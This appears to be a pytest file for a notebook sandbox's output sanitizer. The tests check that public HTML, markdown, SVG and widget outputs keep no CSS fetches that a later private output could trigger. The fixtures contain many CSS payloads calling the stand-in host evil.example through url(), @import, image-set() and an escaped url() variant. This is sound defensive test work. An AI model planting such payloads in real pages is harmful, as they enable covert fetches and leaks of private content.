"""A public output may not leave a fetch on the page for later content to set off.

CSS is global to the page, and a rule can wait: for a class that only a later
output uses, for an element to be unhidden, for a font to be named. A public
output's style that fetches nothing yet would fetch when a later *private*
output, with no URL in it, matches it (helper 44's attack; the browser test
``test_a_public_output_arms_no_fetch_a_private_output_sets_off_in_a_plain_lab``
shows it in Chromium). So CSS fetches in no session: ``url()`` other than
``#id``/``data:``, ``@import``, ``image-set()`` and the other fetching
functions go from public outputs too, in HTML, markdown, SVG and widget
styles; and images load at once (no ``loading="lazy"``, which waits for its
place on screen, something a private style can change). Each test failed
before the change.
"""

from __future__ import annotations

import re
from typing import Any

import pytest
from test_outputs import DATA_PNG, assert_no_fetch, html_of, render_markdown
from wrapped_outputs import scope

from sandbox_kernel.outputs import sanitize_bundle
from sandbox_kernel.outputs.widgets import WidgetComms

WHY = "a public one could be set off later by a private output"

#: helper 44's two public outputs: rules that match nothing yet, and hidden elements with an inline background
ARMED_RULES = (
    "<style>" + "".join(f".skbg{i}{{background-image:url(//evil.example/bg-{i})}}" for i in range(8)) + "</style>"
)
ARMED_HIDDEN = "".join(
    f'<div class="skh{i}" style="display:none;background-image:url(//evil.example/inline-{i})">.</div>'
    for i in range(8)
)


@pytest.mark.parametrize("html", [ARMED_RULES, ARMED_HIDDEN], ids=["rules", "hidden"])
def test_a_public_style_keeps_no_fetch_a_private_output_could_set_off(html: str) -> None:
    r = sanitize_bundle({"text/html": html})
    out = html_of(r)
    assert "evil.example" not in out
    assert_no_fetch(out)
    assert any(WHY in note for note in r.removed), r.removed
    # what does not fetch stays: the rules, the hiding, the classes
    assert ".skbg5{background-image:none}" in out or 'class="skh5"' in out


@pytest.mark.parametrize(
    "css",
    [
        "@font-face{font-family:f;src:url(https://evil.example/f.woff)} p{font-family:f}",
        "@import url(https://evil.example/x.css); p{color:red}",
        "@import 'https://evil.example/y.css'; p{color:red}",
        "p{background-image:image-set('https://evil.example/i.png' 1x)}",
        "p{background-image:-webkit-image-set('https://evil.example/i.png' 1x)}",
        "p{background-image:cross-fade(url(https://evil.example/a.png), red 50%)}",
        "p{background:u\\72 l(https://evil.example/esc)}",
        "p:has(~ .later){cursor:url(https://evil.example/c.cur), auto}",
        "p{list-style-image:url(relative.png)}",
    ],
)
def test_every_css_fetch_goes_from_public_style_blocks(css: str) -> None:
    r = sanitize_bundle({"text/html": f"<style>{css}</style><p>x</p>"})
    out = html_of(r)
    assert_no_fetch(out)  # a url() left is data: or #id; no @import, no image-set()
    assert "relative.png" not in out and "cross-fade(" not in out
    assert r.removed


def test_public_markdown_styles_fetch_nothing() -> None:
    md = (
        "<style>.skbg5{background-image:url(https://evil.example/md-bg)}</style>\n\n"
        '<span class="skh5" style="display:none;background:url(//evil.example/md-inline)">s</span> text'
    )
    r = sanitize_bundle({"text/markdown": md})
    out = r.data["text/markdown"]
    assert "evil.example" not in out
    assert_no_fetch(render_markdown(out))
    assert any(WHY in note for note in r.removed), r.removed


def test_public_svg_styles_still_fetch_nothing() -> None:
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><style>.a{fill:url(https://evil.example/s)}</style>'
        '<rect class="a" style="fill:url(//evil.example/t)" width="5" height="5"/></svg>'
    )
    out = sanitize_bundle({"image/svg+xml": svg}).data["image/svg+xml"]
    assert "evil.example" not in out and "<rect" in out


def test_public_widget_styles_fetch_nothing() -> None:
    """A widget's style and layout values are CSS properties of its element,
    which a later private style can unhide like any other."""
    base = "@jupyter-widgets/base"
    state: dict[str, Any] = {
        "_model_module": base,
        "_model_module_version": "2.0.0",
        "_model_name": "LayoutModel",
        "_view_module": base,
        "_view_module_version": "2.0.0",
        "_view_name": "LayoutView",
        "display": "none",
        "background": "url(//evil.example/widget-bg)",
    }
    msg = {
        "msg_type": "comm_open",
        "content": {"comm_id": "l1", "target_name": "jupyter.widget", "data": {"state": state, "buffer_paths": []}},
        "metadata": {"version": "2.1.0"},
    }
    sent = WidgetComms().from_sandbox(msg, [], private=False).content["data"]["state"]
    assert "evil.example" not in (sent.get("background") or "")
    assert sent["display"] == "none"


def test_inline_and_local_css_references_stay_in_public_outputs() -> None:
    """What cannot fetch is kept: ``data:`` images, ``#id`` references,
    pandas Styler's rules (limited to the output: ``_scoped_css``). A
    ``@font-face`` goes, even of a ``data:`` font: it would give a family the
    page uses other glyphs."""
    rules = f".a{{background:url({DATA_PNG})}}.b{{filter:url(#blur)}}#T_abc_row0_col0{{background-color:#d65f5f;color:#f1f1f1}}"
    font = "@font-face{font-family:g;src:url(data:font/woff2;base64,AAAA)}"
    r = sanitize_bundle({"text/html": f"<style>{rules} {font}</style><p>x</p>"})
    # (served again by the parser: each declaration ends with ";")
    assert f"{scope(html_of(r))}{rules.replace('}', ';}')}}}" in html_of(r)
    assert r.removed == ["CSS @font-face removed from text/html <style> (it would act on the whole page)"]


@pytest.mark.parametrize("mime", ["text/html", "text/markdown"])
def test_images_load_at_once_not_lazily(mime: str) -> None:
    """A lazy image waits for its place on screen, which a later private
    output's style (``.x{display:block}``) can give it: images load at once."""
    html = '<div class="x" style="display:none"><img loading="lazy" src="https://example.org/a.png" alt="a"></div>'
    out = sanitize_bundle({mime: html}).data[mime]
    assert "loading" not in out
    assert re.search(r'<img [^>]*src="https://example.org/a.png"', out), out
